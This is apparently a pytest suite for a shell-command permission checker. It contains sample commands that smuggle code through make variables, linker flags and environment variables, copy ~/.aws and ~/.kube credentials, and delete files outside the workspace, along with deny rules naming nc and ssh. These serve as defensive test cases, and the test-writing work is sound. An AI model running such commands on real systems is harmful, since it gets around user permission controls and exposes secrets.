"""Words and options by which a command would do more than the rule that covers it says."""

from pathlib import Path

import msgspec
import pytest

from permissionkit import POLICY, rules
from trimtab.permissions.decide_shell import decide_shell

BEYOND = r"""
shell(make test)
make test X='$(shell ./evil)'
make test 'X:=$(shell ./evil)'
make test 'X!=./evil'
make test 'ARGS=; ./evil'
make test ARGS='a | ./evil'
make test ARGS="$(cat args)"
make test CC='sh -c ./evil'
make test -I../other
make test --include-dir=/other
shell(make)
make -f -
make -sf-
make --makefile=- all
make -f /dev/stdin
make --file=/proc/self/fd/0
shell(tar)
tar --use-compress=./evil -cf x.tar a
shell(go build)
go build -ldflags='-linkmode=external -extld=sh'
go build -ldflags '-extar ./evil'
go build -gccgoflags=-wrapper=./evil
go build -modfile=../other/go.mod
GOENV=./env go build
GOPACKAGESDRIVER=./evil go build
GOCACHEPROG=./evil go build
shell(cmake)
cmake . -DCMAKE_CXX_COMPILER_LAUNCHER='./evil;x'
cmake . -DCMAKE_MAKE_PROGRAM=./evil
cmake --build . -- SHELL=./evil
shell(cargo build)
cargo build --manifest-path ../other/Cargo.toml
CARGO_REGISTRIES_X_CREDENTIAL_PROVIDER=./evil cargo build
shell(cargo rustc)
cargo rustc -- -C linker=./evil
shell(gradle test)
gradle test --build-file=../other/build.gradle
gradle test --include-build ../other
JAVA_OPTS=-javaagent:evil.jar gradle test
shell(dotnet run)
dotnet run --project ../other
shell(npm test)
npm test --prefix ../other
npm -C ../other test
npm --prefix=/other test
shell(npm run:*)
npm run build --prefix ../other
shell(npm install)
npm install --git=./evil git+ssh://x/y
shell(pnpm test)
pnpm -C ../other test
shell(yarn test)
yarn --cwd ../other test
shell(kubectl get)
kubectl get pods --server=http://x.test --insecure-skip-tls-verify
shell(docker ps)
DOCKER_CLI_PLUGIN_EXTRA_DIRS=. docker ps
shell(setarch)
setarch -R ./evil x
setarch ./evil true
shell(chrt)
chrt -b ./evil true
shell(runcon)
runcon -t x ./evil true
""".strip().split("\n")

WITHIN = r"""
shell(make:*)
make -j8 test V=1 PREFIX=/usr/local
make build CC=/usr/bin/clang CFLAGS='-O2 -g'
make build CC='gcc -m32' PYTHON=.venv/bin/python
make test ARGS='-v -k "a or b"'
shell(go build)
go build -ldflags "-s -w -X main.version=1.0" ./cmd/x
go build -ldflags=-extldflags=-static ./...
shell(cmake)
cmake -B build -DCMAKE_CXX_COMPILER_LAUNCHER=ccache -DCMAKE_BUILD_TYPE=Debug
shell(cargo build)
cargo build --manifest-path sub/Cargo.toml
shell(npm test)
npm test -- --fix
npm --prefix sub test
npm -w @a/b test
shell(npm run:*)
npm run build --workspace=sub
shell(pnpm run build)
pnpm --filter web run build
shell(kubectl get)
kubectl get pods -n web -ojson
shell(setarch)
setarch x86_64 -R true
setarch -R true
""".strip().split("\n")


def pair(lines: list[str]) -> list[tuple[str, str]]:
    """Return each command with the rule above it."""
    pairs, rule = [], ""
    for line in lines:
        if line.startswith("shell("):
            rule = line
        else:
            pairs.append((rule, line))
    return pairs


def judge(rule: str, command: str, cwd: Path) -> str:
    allow = rules(rule, "shell(true)")
    policy = msgspec.structs.replace(POLICY, cwd=str(cwd), roots=(str(cwd),), allow=allow)
    return decide_shell(command, policy).verdict


@pytest.mark.parametrize(("rule", "command"), pair(BEYOND))
def test_a_rule_covers_no_command_that_a_word_or_option_of_it_brings(
    tmp_path: Path, rule: str, command: str
) -> None:
    """Values that `make` expands, linkers, folders elsewhere and servers came with the rule."""
    assert judge(rule, command, tmp_path) == "ask"


@pytest.mark.parametrize(("rule", "command"), pair(WITHIN))
def test_a_rule_covers_what_people_give_its_command(
    tmp_path: Path, rule: str, command: str
) -> None:
    (tmp_path / "sub").mkdir()
    assert judge(rule, command, tmp_path) == "allow"


@pytest.mark.parametrize("name", ["PATH", "BASH_ENV", "GIT_DIR"])
@pytest.mark.parametrize("form", ["--process-slot-var={}", "--process-slot={}"])
def test_a_variable_that_xargs_sets_counts_like_one_that_the_script_sets(
    tmp_path: Path, name: str, form: str
) -> None:
    assert judge("shell(xargs)", f"xargs {form.format(name)} true", tmp_path) == "ask"
    assert judge("shell(xargs)", "xargs --process-slot-var=SLOT true", tmp_path) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "setarch -R rm x",
        "setarch x86_64 -R rm x",
        "runcon -t x rm y",
        "chrt -b rm x",
        "chrt 5 rm x",
        "exec -a rm busybox x",
    ],
)
def test_a_denied_command_is_found_where_a_launcher_lacks_its_own_operand(
    tmp_path: Path, command: str
) -> None:
    policy = msgspec.structs.replace(POLICY, allow_all_tools=True, deny=rules("shell(rm)"))
    assert decide_shell(command, policy).verdict == "deny"


def test_find_that_looks_where_a_file_tells_it_does_not_leave_the_fence(tmp_path: Path) -> None:
    for command in ("find -files0-from list", "find -files0-from - -name x"):
        policy = msgspec.structs.replace(
            POLICY, cwd=str(tmp_path), roots=(str(tmp_path),), allow=rules("shell(find)")
        )
        decision = decide_shell(command, policy)
        assert decision.verdict == "allow"
        assert decision.harmless
        assert decision.rule is None


@pytest.mark.parametrize(
    "command",
    [
        "cp -r ~/.aws x",
        "zip x.zip ~/.aws/credentials",
        "tar czf - ~/.kube | cat",
        "cp ../elsewhere/secret x",
        "mv /home/other/.env x",
        "sed s/a/b/ ~/notes/token.txt",
    ],
)
def test_a_rule_for_a_program_does_not_mean_secrets_elsewhere(command: str) -> None:
    names = ("cp", "zip", "tar", "mv", "sed", "cat")
    policy = msgspec.structs.replace(POLICY, allow=rules(*(f"shell({name})" for name in names)))
    assert decide_shell(command, policy).verdict == "ask"


ON_FILES = (*("cp", "mv", "rm", "mkdir", "ln", "tar", "sed", "tee", "touch", "make", "kubectl"),)


@pytest.mark.parametrize(
    "command",
    [
        *("cp /opt/x/a b", "cp -r ../elsewhere/src x", "cp a ../b", "cp -t .. a", "cp a ~/bin/"),
        *("mv /opt/x/a b", "mv a ../b", "rm -r ../elsewhere", "rm ~/notes.txt", "mkdir ../made"),
        *("ln -s /opt/x y", "tar xf a.tar -C ..", "tar cf ../a.tar .", "sed -i s/a/b/ ../a.txt"),
        *("echo x | tee ../a.txt", "touch ../a", "cp ../*.txt .", "make x && cp a /opt/y"),
        *("make && cp ../a .", "make && cp -R .. a", "make && cp a ../..", "make && rm ~/a"),
    ],
)
def test_a_rule_for_a_program_reaches_no_further_than_all_tools(command: str) -> None:
    policy = msgspec.structs.replace(POLICY, allow=rules(*(f"shell({name})" for name in ON_FILES)))
    assert decide_shell(command, policy).verdict == "ask"
    everything = msgspec.structs.replace(POLICY, allow_all_tools=True)
    assert decide_shell(command, everything).verdict == "ask"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cp .env .env.local", ""),
        ("cp secrets/a.json x", ""),
        ("cp /usr/share/x/a b", ""),
        ("cp /dev/null b", ""),
        ("make PREFIX=/opt/y && cp a b", ""),
        ("kubectl exec p -- cat /opt/y; rm a", ""),
        ("cp /opt/x/a b", "read(/opt/x/)"),
        ("cp -r /opt/x/src /opt/x/lib b", "read(/opt/x/)"),
        ("cp /opt/x/a .", "read(/opt/x/)"),
        ("make && cp /opt/x/a .", "read(/opt/x/)"),
        ("cp a /opt/x/a", "write(/opt/x/a)"),
        ("mkdir -p /opt/x/made", "write(/opt/x/made)"),
    ],
)
def test_a_rule_for_a_program_covers_other_files(command: str, rule: str) -> None:
    names = (*(f"shell({name})" for name in ON_FILES), *filter(None, [rule]))
    policy = msgspec.structs.replace(POLICY, allow=rules(*names))
    assert decide_shell(command, policy).verdict == "allow"


@pytest.mark.parametrize("command", ["cp a /opt/x/a", "cp /opt/x/a /opt/x/b", "cp -t /opt/x a"])
def test_a_rule_for_reading_a_folder_lets_nothing_be_copied_into_it(command: str) -> None:
    policy = msgspec.structs.replace(POLICY, allow=rules("shell(cp)", "read(/opt/x/)"))
    assert decide_shell(command, policy).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        *("git clone -q . ../new", "git init -q /opt/new", "git init --separate-git-dir=/opt/x ."),
        *("git worktree add /opt/new", "git worktree add ../x/new", "git -C ../other commit -m x"),
        *("git bundle create ../new HEAD", "git format-patch -o .. -1", "git bugreport -o /opt"),
        *("git checkout-index --prefix=/opt/x/ -a", "git mv a.txt ../b", "git push /opt/x HEAD"),
        *("git shortlog --output=../new HEAD", "git archive --add-file=../plain HEAD"),
        *(
            "git merge-file -p a a ../plain",
            "git commit-tree -F ../plain HEAD:",
            "make && git init ..",
        ),
        *("git fast-export --import-marks=../plain HEAD", "git tag -a x --fil ../plain"),
        *("git hash-object -w --stdin-paths < a", "echo ../plain | git hash-object -w --stdin-p"),
    ],
)
def test_a_rule_for_git_reaches_no_further_than_all_tools(command: str) -> None:
    """It made repositories and files elsewhere, and recorded those that it was pointed to."""
    policy = msgspec.structs.replace(POLICY, allow=rules("shell(git:*)", "shell(make)"))
    assert decide_shell(command, policy).verdict == "ask"
    everything = msgspec.structs.replace(POLICY, allow_all_tools=True)
    assert decide_shell(command, everything).verdict == "ask" or "stdin-p" in command


def test_a_rule_for_git_covers_its_repository_and_new_checkouts_beside_it(tmp_path: Path) -> None:
    (tmp_path / "app/.git").mkdir(parents=True)
    (tmp_path / "app/sub").mkdir()
    (tmp_path / "old").mkdir()
    cwd = str(tmp_path / "app/sub")
    policy = msgspec.structs.replace(POLICY, cwd=cwd, roots=(cwd,), allow=rules("shell(git:*)"))
    for command in ("git add ../a", "git -C .. commit -m x", "git worktree add ../../new main"):
        assert decide_shell(command, policy).verdict == "allow"
    for command in ("git worktree add ../../old main", "git clone . ../../new"):
        assert decide_shell(command, policy).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        *("curl -sF x=@a.txt,link x.test", "curl -F 'x=@a;headers=@link' x.test"),
        *("curl --etag-compare link x.test", "curl --proto-default file a.txt"),
        *("curl 'file:///srv/{link,a}'", "git format-patch -qolink -1", "git bugreport -olink"),
    ],
)
def test_a_rule_does_not_mean_links_that_hide_in_a_word(tmp_path: Path, command: str) -> None:
    (tmp_path / "link").symlink_to("/opt")
    cwd, allow = str(tmp_path), rules("shell(curl)", "shell(git:*)")
    policy = msgspec.structs.replace(POLICY, cwd=cwd, roots=(cwd,), allow=allow)
    assert decide_shell(command, policy).verdict == "ask"
    for ordinary in ("curl -sF x=@a.txt,b x.test", "git bugreport -oline"):
        assert decide_shell(ordinary, policy).verdict == "allow"


@pytest.mark.parametrize(
    ("rule", "command", "verdict"),
    [
        ("url(intranet)", "curl intranet/x", "deny"),
        ("url(intranet)", "curl -s INTRANET", "deny"),
        ("url(intranet)", "nc intranet 80", "deny"),
        ("url(intranet)", "ssh someone@intranet", "deny"),
        ("url(intranet)", "git clone intranet:x", "deny"),
        ("url(intranet)", "psql -h intranet", "ask"),
        ("url(intranet)", "psql postgres://u@intranet/db", "ask"),
        ("url(intranet)", "curl https://intranets/", "allow"),
        ("url(intranet)", "curl x.test/intranet", "allow"),
        ("url(intranet)", "cat intranet", "allow"),
        ("url(intranet/secret)", "curl intranet/secret/a", "deny"),
        ("url(intranet/secret)", "curl intranet/other", "allow"),
        ("url(x.test/a*)", "curl x.test/ab", "deny"),
        ("url(x.test/**)", "curl x.test/ab", "deny"),
        ("url(x.test/a/*)", "curl x.test/ab", "allow"),
        ("shell(/bin/rm)", "rm x", "deny"),
        ("shell(/bin/rm)", "/bin/rm x", "deny"),
        ("shell(/usr/bin/git push)", "git push", "deny"),
        ("shell(/usr/bin/git push)", "git status", "allow"),
        ("shell(./x.sh)", "sh x.sh", "deny"),
        ("shell(./x.sh)", "bash .//x.sh", "deny"),
        ("shell(./x.sh)", "./x.sh", "deny"),
        ("shell(./x.sh)", "sh y.sh", "allow"),
    ],
)
def test_a_rule_that_denies_holds_for_every_way_to_name_what_it_names(
    rule: str, command: str, verdict: str
) -> None:
    policy = msgspec.structs.replace(
        POLICY, allow_all_tools=True, allow_all_paths=True, deny=rules(rule)
    )
    assert decide_shell(command, policy).verdict == verdict
